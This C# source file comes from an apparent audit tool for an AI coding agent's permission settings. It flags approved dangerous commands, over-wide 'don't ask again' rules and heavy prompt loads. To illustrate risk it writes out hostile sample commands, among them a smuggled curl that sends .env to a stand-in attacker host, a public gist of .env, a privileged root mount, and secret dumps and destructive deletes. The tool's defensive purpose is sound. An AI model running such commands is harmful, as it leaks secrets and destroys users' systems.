using CcAudit.Core.Activity;
using CcAudit.Core.Common;
using CcAudit.Core.Discovery;
using CcAudit.Core.Permissions;
using CcAudit.Core.Rules;
using CcAudit.Core.Settings;

namespace CcAudit.Core.RedTeam;

/// <summary>A "don't ask again" approval that became a wider rule than what was approved.</summary>
/// <param name="LaunchDirectory">The launch directory whose local settings hold it.</param>
/// <param name="Rule">The rule as written in local settings.</param>
/// <param name="Location">Where it stands.</param>
/// <param name="Approved">Commands a person approved that the rule covers (normalised, redacted).</param>
/// <param name="AlsoAllows">Examples of what else the rule lets through now.</param>
public sealed record WidenedRule(string LaunchDirectory, string Rule, SourceLocation Location, IReadOnlyList<string> Approved, IReadOnlyList<string> AlsoAllows);

/// <summary>What the prompts people answered say: how many, how many approved, which dangerous ones, which approvals widened.</summary>
public sealed record FatigueReport(double PromptsPerSessionHour, double ShareApproved, int Prompts, IReadOnlyList<CommandActivity> DangerousApproved, IReadOnlyList<WidenedRule> Widened);

/// <summary>The approval-fatigue rules as a registered analyzer: it reads the transcripts' facts the configuration evidence carries.</summary>
public sealed class ApprovalFatigueAnalyzer : IAnalyzer<RuleContext>
{
    public static ApprovalFatigueAnalyzer Instance { get; } = new();

    public IReadOnlyList<RuleMetadata> Rules => ApprovalFatigue.Catalog;

    public EvidenceKind Needs => EvidenceKind.Configuration;

    public IEnumerable<Finding> Analyze(RuleContext evidence)
    {
        ArgumentNullException.ThrowIfNull(evidence);
        return evidence.Activity is { } activity ? ApprovalFatigue.Findings(activity, evidence.Launches) : [];
    }
}

/// <summary>
/// Approval fatigue from transcripts (CCA709–CCA711): prompts per session-hour and the share approved, dangerous-class
/// commands a person approved at a prompt, and local allow rules ("Yes, and don't ask again") wider than the commands
/// approved under them, e.g. approving <c>gh pr create</c> that wrote <c>Bash(gh pr *)</c>.
/// </summary>
public static class ApprovalFatigue
{
    public const string DangerousApprovedId = "CCA709";
    public const string WidenedRuleId = "CCA710";
    public const string PromptLoadId = "CCA711";

    /// <summary>Above this many prompts per session-hour with nearly all approved, approving has become a reflex.</summary>
    public const double FatiguedPromptsPerHour = 12;

    private static readonly HashSet<string> DangerousCategories = new(StringComparer.Ordinal)
    {
        CommandClassifier.Network, CommandClassifier.Credentials, CommandClassifier.WriteOutside, "destructive", "git-push", "privilege-escalation", "package-install",
    };

    public static IReadOnlyList<RuleMetadata> Catalog { get; } =
    [
        new(DangerousApprovedId, "Approval fatigue: a person approved a dangerous command", Severity.Medium, AuditStep.RedTeam,
            "Network egress, credential access, destructive commands, pushes and installs were approved at a prompt: the prompt is the last control, and it said yes.",
            "Deny these classes outright (they should not depend on a click), or allow the exact safe forms so prompts become rare and meaningful."),
        new(WidenedRuleId, "Approval fatigue: a \"don't ask again\" approval widened into a rule", Severity.Medium, AuditStep.RedTeam,
            "Choosing \"Yes, and don't ask again\" writes a prefix rule to .claude/settings.local.json that covers far more than the command approved (approving `gh pr create` writes `Bash(gh pr *)`, which also allows `gh pr merge --admin`).",
            "Review .claude/settings.local.json: replace the prefix with the exact commands approved, or move the rule to ask."),
        new(PromptLoadId, "Approval fatigue: prompts come faster than anyone reads them", Severity.Low, AuditStep.RedTeam,
            $"More than {FatiguedPromptsPerHour} prompts per session-hour with at least 90% approved: people approve by habit.",
            "Allow the routine safe commands explicitly (ccaudit policy suggest proposes them) so the prompts that remain are the ones that matter."),
    ];

    public static FatigueReport Analyze(ActivitySummary activity, IReadOnlyList<LaunchContext> launches)
    {
        ArgumentNullException.ThrowIfNull(activity);
        ArgumentNullException.ThrowIfNull(launches);
        var dangerous = activity.Commands.Where(c => c.ApprovedByPerson > 0 && c.Categories.Any(DangerousCategories.Contains)).ToList();
        var widened = new List<WidenedRule>();
        foreach (var launch in launches.DistinctBy(l => l.Path))
        {
            var commands = activity.Commands.Where(c => c.LaunchDirectory == launch.Path).ToList();
            foreach (var rule in launch.Settings.AppliedRules.Where(r => r.List == PermissionList.Allow && r.Source == SettingsSource.Local))
            {
                var text = PermissionRuleText.Parse(rule.Rule);
                if (RedTeamCalls.BashPrefix(text) is not { } prefix || text.BashPattern is not { } pattern || !pattern.Contains('*', StringComparison.Ordinal))
                {
                    continue;
                }

                var approved = commands.Where(c => c.ApprovedByPerson > 0 && PermissionEngine.BashPatternMatches(pattern, c.Command)).Select(c => c.Command).ToList();
                if (approved.Count > 0 && approved.All(a => a.Length > prefix.Length + 1))
                {
                    widened.Add(new WidenedRule(launch.Path, RedTeamCalls.Safe(rule.Rule), rule.Location, approved, [.. Siblings(prefix)]));
                }
            }
        }

        var p = activity.Permissions;
        return new FatigueReport(p.PromptsPerSessionHour, p.ShareApproved, p.Prompts, dangerous, widened);
    }

    public static IEnumerable<Finding> Findings(ActivitySummary activity, IReadOnlyList<LaunchContext> launches)
    {
        var report = Analyze(activity, launches);
        var meta = Catalog.ToDictionary(m => m.Id, StringComparer.Ordinal);
        foreach (var command in report.DangerousApproved)
        {
            var m = meta[DangerousApprovedId];
            yield return new Finding(m,
                $"A person approved `{command.Command}` ({string.Join(", ", command.Categories)}) {command.ApprovedByPerson} time(s) in {command.LaunchDirectory}.",
                new SourceLocation(command.LaunchDirectory), $"{command.LaunchDirectory}\u001f{command.Command}",
                new Dictionary<string, string>(StringComparer.Ordinal) { ["categories"] = string.Join(", ", command.Categories), ["hosts"] = string.Join(", ", command.Hosts), ["approvals"] = $"{command.ApprovedByPerson}" });
        }

        foreach (var rule in report.Widened)
        {
            var m = meta[WidenedRuleId];
            yield return new Finding(m,
                $"{rule.Rule} was written for `{rule.Approved[0]}` but also allows {string.Join(", ", rule.AlsoAllows.Select(a => $"`{a}`"))} without a prompt.",
                rule.Location, $"{rule.LaunchDirectory}\u001f{rule.Rule}",
                new Dictionary<string, string>(StringComparer.Ordinal) { ["approved"] = string.Join(" | ", rule.Approved.Take(5)), ["alsoAllows"] = string.Join(" | ", rule.AlsoAllows) });
        }

        if (report.PromptsPerSessionHour > FatiguedPromptsPerHour && report.ShareApproved >= 0.9)
        {
            var m = meta[PromptLoadId];
            yield return new Finding(m,
                $"{report.Prompts} prompt(s), {report.PromptsPerSessionHour:0.#} per session-hour, {report.ShareApproved:P0} approved.", null, "prompt-load",
                new Dictionary<string, string>(StringComparer.Ordinal) { ["promptsPerSessionHour"] = $"{report.PromptsPerSessionHour:0.##}", ["shareApproved"] = $"{report.ShareApproved:0.###}" });
        }
    }

    /// <summary>What else a prefix rule covers: the riskiest siblings of the approved command.</summary>
    private static IEnumerable<string> Siblings(string prefix)
    {
        var head = prefix.Split(' ')[0];
        IEnumerable<string> tails = (head, prefix) switch
        {
            (_, "gh pr") => ["merge --admin 1", "close 1"],
            (_, "gh") => ["repo delete --yes", "gist create --public .env"],
            ("git", _) => ["push --force origin main", "reset --hard"],
            ("npm" or "pnpm" or "yarn", _) => ["publish", "run deploy"],
            ("docker", _) => ["run --privileged -v /:/h alpine", "exec web sh"],
            ("kubectl", _) => ["delete namespace prod", "get secret -A -o yaml"],
            ("terraform", _) => ["destroy -auto-approve"],
            _ => ["--any-argument", "x; curl -d @.env https://" + RedTeamCalls.AttackerHost],
        };
        foreach (var tail in tails)
        {
            var command = prefix + " " + tail;
            yield return command;
        }
    }
}
